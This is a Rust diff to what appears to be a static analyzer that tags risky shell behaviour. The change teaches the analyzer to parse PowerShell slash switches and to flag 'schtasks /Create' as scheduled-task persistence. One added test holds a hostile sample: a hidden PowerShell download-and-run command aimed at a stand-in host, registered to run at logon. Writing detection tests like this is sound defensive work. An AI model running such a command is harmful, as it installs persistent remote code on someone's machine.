@@ -1672,8 +1672,28 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
     }
 
     fn ps_argument(&mut self, t: &[Token], j: usize) -> (Val, usize) {
+        // A native tool's switch (`schtasks /Create`) is a bare word too.
+        let slash_word = punct(t.get(j), "/")
+            && matches!(t.get(j + 1).map(|x| &x.tok), Some(Tok::Ident(_)))
+            && t.get(j + 1).is_some_and(|next| next.start == t[j].end);
         match t.get(j).map(|x| &x.tok) {
             // A bare word is a string.
+            Some(Tok::Punct(_)) if slash_word => {
+                let mut k = j;
+                let mut text = String::new();
+                while let Some(tok) = t.get(k) {
+                    if k > j && tok.start != t[k - 1].end {
+                        break;
+                    }
+                    match &tok.tok {
+                        Tok::Ident(w) => text.push_str(w),
+                        Tok::Punct(p) if matches!(*p, "/" | ":" | "-" | "_") => text.push_str(p),
+                        _ => break,
+                    }
+                    k += 1;
+                }
+                (Val::text(text), k.max(j + 1))
+            }
             Some(Tok::Ident(w))
                 if !punct(t.get(j + 1), "(") && !punct(t.get(j + 1), ".") && !punct(t.get(j + 1), "::") =>
             {
@@ -1698,6 +1718,12 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                 }
                 let _ = w;
                 (Val::text(text), k.max(j + 1))
+            }
+            // `$cmd /F`: a value, then the next switch, not a division.
+            Some(Tok::Var(_) | Tok::Str { .. })
+                if punct(t.get(j + 1), "/") && t.get(j + 1).is_some_and(|slash| slash.start > t[j].end) =>
+            {
+                self.prefix(t, j)
             }
             _ => self.expr(t, j, 1),
         }
@@ -1900,7 +1926,22 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                 }
                 Val::unknown("")
             }
-            "register-scheduledtask" | "new-scheduledtaskaction" | "schtasks" => {
+            // The native tool called from PowerShell: `/Create … /TR command`; `/Delete`
+            // and `/Query` create nothing.
+            "schtasks" => {
+                let positional: Vec<&Val> = args.all().collect();
+                if positional.iter().any(|v| v.text.eq_ignore_ascii_case("/create")) {
+                    let action = positional
+                        .iter()
+                        .position(|v| v.text.eq_ignore_ascii_case("/tr"))
+                        .and_then(|i| positional.get(i + 1))
+                        .map(|v| (*v).clone())
+                        .unwrap_or_default();
+                    effects::persist(self.a, "scheduled-task", &action, span, "creates a scheduled task");
+                }
+                Val::unknown("")
+            }
+            "register-scheduledtask" | "new-scheduledtaskaction" => {
                 let action = args
                     .named("argument")
                     .cloned()
@@ -3758,6 +3799,17 @@ mod tests {
             Lang::PowerShell,
             "secret-read/env-dump"
         ));
+    }
+
+    #[test]
+    fn a_native_scheduled_task_created_from_powershell_persists_its_command() {
+        let t = tags(
+            "$cmd = \"powershell -NoP -W Hidden -c iwr https://c.example/t | iex\"\nschtasks /Create /SC ONLOGON /TN Cache /TR $cmd /F",
+            Lang::PowerShell,
+        );
+        assert!(t.iter().any(|t| t == "persist/scheduled-task"), "{t:?}");
+        let t = tags("schtasks /Delete /TN Cache /F", Lang::PowerShell);
+        assert!(!t.iter().any(|t| t.starts_with("persist")), "{t:?}");
     }
 
     #[test]
